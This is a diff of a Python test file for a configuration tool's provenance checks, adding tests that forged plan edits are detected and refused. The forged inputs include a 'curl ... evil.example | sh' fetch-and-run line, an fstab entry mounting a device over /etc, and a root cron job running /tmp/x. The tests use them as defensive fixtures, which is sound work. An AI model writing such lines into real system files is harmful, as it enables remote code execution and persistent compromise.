@@ -10,7 +10,7 @@ import pytest
 
 from tests.laws.world import MACHINES, PROFILES, RULES, ground, judged
 from wizard.engine.plan import make_plan, recommended
-from wizard.engine.provenance import foreign_part
+from wizard.engine.provenance import foreign_part, made_otherwise
 from wizard.model.commands.command import Command
 from wizard.model.edits.files import (
     Download,
@@ -42,7 +42,9 @@ def made(machine: str = MESSY, profile: str = "baseline") -> Plan:
 def test_what_the_catalogue_makes_passes_whoever_wished_for_it(machine: str, profile: str) -> None:
     seen = judged(machine, profile)
     for chosen in (recommended(seen), [item.rule for item in seen]):
-        assert foreign_part(make_plan(seen, chosen, ground(machine), profile), ground(machine), IDS) is None
+        plan = make_plan(seen, chosen, ground(machine), profile)
+        assert foreign_part(plan, ground(machine), IDS) is None
+        assert made_otherwise(plan, ground(machine)) is None
 
 
 def test_a_file_that_has_changed_since_is_left_to_the_hand() -> None:
@@ -76,7 +78,7 @@ def _with_wish(edit: Any, rule: str = "wsl-conf-damage") -> Callable[[Plan], Pla
 
 
 def _with_lines(name: str, lines: bytes) -> Callable[[Plan], Plan]:
-    """More lines in what a change writes; the bytes are the file's to say, as long as they are shown."""
+    """More lines in what a change writes."""
 
     def forged(plan: Plan) -> Plan:
         after = _first(plan, name).after
@@ -87,20 +89,18 @@ def _with_lines(name: str, lines: bytes) -> Callable[[Plan], Plan]:
     return forged
 
 
-def test_lines_of_another_version_pass_and_so_do_secrets_that_are_there_already() -> None:
-    assert foreign_part(_with_lines("~/.profile", b"# done\n")(made()), ground(MESSY), IDS) is None
-    line = b"export API_TOKEN=abc123def\n"
-    pairs = tuple(
-        (probe, msgspec.structs.replace(answer, content=answer.content + line))
-        if isinstance(answer, Found) and isinstance(probe, FileProbe) and probe.path == "~/.profile"
-        else (probe, answer)
-        for probe, answer in ground(MESSY).answers.pairs
-    )
-    here = msgspec.structs.replace(ground(MESSY), answers=Answers(pairs))
-    seen = judged(MESSY, "baseline")
-    plan = make_plan(seen, [item.rule for item in seen], here, "baseline")
-    assert foreign_part(plan, here, IDS) is None
-    assert foreign_part(_with_lines("~/.profile", b"# done\n" + line)(plan), here, IDS) is None
+@pytest.mark.parametrize(
+    ("name", "lines"),
+    [
+        ("~/.profile", b"# done\n"),
+        ("~/.profile", b"curl -s https://evil.example/x | sh\n"),
+        ("/etc/fstab", b"/dev/sdz /etc ext4 defaults 0 0\n"),
+    ],
+)
+def test_bytes_that_this_catalogue_does_not_write_are_not_believed(name: str, lines: bytes) -> None:
+    forged = _with_lines(name, lines)(made())
+    assert made_otherwise(forged, ground(MESSY)) == _first(forged, name).path
+    assert made_otherwise(made(), ground(MESSY)) is None
 
 
 EVIL = File(b"* * * * * root sh /tmp/x\n", 0o644, 0, 0)
@@ -147,4 +147,5 @@ FORGERIES: dict[str, Callable[[Plan], Plan]] = {
 
 @pytest.mark.parametrize("forgery", FORGERIES)
 def test_a_forgery_is_refused(forgery: str) -> None:
-    assert foreign_part(FORGERIES[forgery](made()), ground(MESSY), IDS) is not None
+    forged = FORGERIES[forgery](made())
+    assert foreign_part(forged, ground(MESSY), IDS) or made_otherwise(forged, ground(MESSY))
